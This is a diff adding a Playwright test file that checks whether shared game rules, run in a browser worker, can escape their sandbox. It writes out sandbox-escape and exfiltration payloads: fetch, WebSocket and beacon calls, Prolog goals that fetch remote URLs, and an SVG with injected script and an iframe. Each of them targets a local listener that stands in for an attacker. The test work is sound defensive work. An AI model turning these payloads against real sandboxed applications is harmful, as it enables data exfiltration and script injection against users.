@@ -1,0 +1,147 @@
+"""Rules of somebody else can compute and draw, and nothing else. A server listens for what gets out."""
+
+from __future__ import annotations
+
+import base64
+import zlib
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from threading import Thread
+
+import pytest
+from at_the_table import button, opened_page
+from playwright.sync_api import Browser, expect
+
+from pybridge.cli import run
+
+# Each is tried, as JavaScript in the worker, when the rules are loaded.
+ATTEMPTS = {
+    "fetch": "fetch('{url}fetch', {{mode: 'no-cors'}})",
+    "request": "(() => {{ const it = new XMLHttpRequest(); it.open('GET', '{url}a', false); it.send(); }})()",
+    "socket": "new WebSocket('{url}socket'.replace('http', 'ws'))",
+    "events": "new EventSource('{url}events')",
+    "script": "importScripts('{url}script.js')",
+    "module": "import('{url}module.js')",
+    "worker": "new Worker('{url}worker.js')",
+    "beacon": "navigator.sendBeacon('{url}beacon', 'x')",
+    "database": "indexedDB.open('stolen')",
+    "caches": "caches.open('stolen')",
+    "channel": "new BroadcastChannel('stolen').postMessage('x')",
+    "page": "parent.document.title",
+    "storage": "localStorage.setItem('stolen', 'x')",
+}
+
+SVG = """<script>fetch('{url}svg-script')</script><image href='{url}svg-image'/>
+<foreignObject width='99' height='99'>
+<iframe xmlns='http://www.w3.org/1999/xhtml' src='{url}svg-frame'/>
+</foreignObject>"""
+
+
+class Listener(ThreadingHTTPServer):
+    """A server elsewhere, which hears what gets out."""
+
+    heard: list[str]
+
+
+@pytest.fixture
+def listener() -> Iterator[Listener]:
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            server.heard.append(self.path)
+            self.send_response(200)
+            self.send_header("Access-Control-Allow-Origin", "*")
+            self.end_headers()
+
+        do_POST = do_GET
+
+        def log_message(self, format: str, *args: object) -> None:
+            pass
+
+    with Listener(("127.0.0.1", 0), Handler) as server:
+        server.heard = []
+        Thread(target=server.serve_forever, daemon=True).start()
+        yield server
+        server.shutdown()
+
+
+def shared(rules: str) -> str:
+    """The fragment of a link that brings rules."""
+    packed = zlib.compressobj(wbits=-15)
+    code = base64.urlsafe_b64encode(packed.compress(rules.encode()) + packed.flush()).decode().rstrip("=")
+    return f"#file=evil.pl&players=human+human&rules={code}"
+
+
+def evil_rules(folder: Path, monkeypatch: pytest.MonkeyPatch, extra: str) -> str:
+    """Sound rules, with more in them."""
+    monkeypatch.chdir(folder)
+    assert run(["new", "evil"]) == 0
+    return (folder / "evil.pl").read_text().replace("players(ann, ben).", extra + "\nplayers(ann, ben).")
+
+
+def test_nothing_in_the_worker_reaches_the_network_storage_or_the_page(
+    browser: Browser, address: str, listener: Listener
+) -> None:
+    url = f"http://127.0.0.1:{listener.server_port}/"
+    with opened_page(browser, address) as page:
+        expect(page.locator("[role=gridcell]")).to_have_count(9)
+        (worker,) = page.workers[:1]
+        outcomes = {name: worker.evaluate(escaping(code.format(url=url))) for name, code in ATTEMPTS.items()}
+        assert {name for name, outcome in outcomes.items() if outcome == "got out"} == set()
+        assert page.evaluate("[document.title, localStorage.length]") == ["tictactoe - pybridge", 0]
+    assert listener.heard == []
+
+
+def escaping(code: str) -> str:
+    """JavaScript that tries `code` and says whether it got anywhere, within a second."""
+    return f"""async () => {{
+        const late = new Promise((resolve) => setTimeout(() => resolve("nothing came"), 1000));
+        const attempt = async () => {{
+            const made = await ({code});
+            if (made instanceof EventTarget) await new Promise((_, fail) => (made.onerror = fail));
+            return "got out";
+        }};
+        return Promise.race([attempt().catch(() => "refused"), late]);
+    }}"""
+
+
+def test_rules_that_reach_for_javascript_get_nowhere(
+    browser: Browser, address: str, listener: Listener, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    url = f"http://127.0.0.1:{listener.server_port}/"
+    tries = "\n".join(
+        f":- catch(ignore(({goal})), _, true)."
+        for goal in [
+            f"_ := fetch('{url}a')",
+            f"_ := self.fetch('{url}b')",
+            f"fetch('{url}c', text, _)",
+            f"js_script(\"fetch('{url}d')\", [])",
+            "use_module(library(wasm)), _ := 'XMLHttpRequest'.new()",
+            f"load_files('{url}e.pl', [])",
+            f"open('{url}f', read, _)",
+        ]
+    )
+    rules = evil_rules(tmp_path, monkeypatch, tries)
+    with opened_page(browser, address + shared(rules)) as page:
+        button(page, "Play by these rules").click()
+        expect(page).to_have_title("evil - pybridge")
+        page.wait_for_timeout(300)
+    assert listener.heard == []
+
+
+def test_a_picture_from_rules_runs_nothing(
+    browser: Browser, address: str, listener: Listener, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    url = f"http://127.0.0.1:{listener.server_port}/"
+    inner = " ".join(SVG.format(url=url).split()).replace("'", "\\'")
+    picture = (
+        f'board_svg(_, _, \'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 99 99">{inner}</svg>\').'
+    )
+    take_over = f":- abolish(pybridge_page:board_svg/3), assertz(pybridge_page:({picture[:-1]}))."
+    rules = evil_rules(tmp_path, monkeypatch, take_over)
+    with opened_page(browser, address + shared(rules)) as page:
+        button(page, "Play by these rules").click()
+        expect(page).to_have_title("evil - pybridge")
+        assert "svg-script" in (page.locator("#picture").get_attribute("src") or "")
+        page.wait_for_timeout(300)
+    assert listener.heard == []
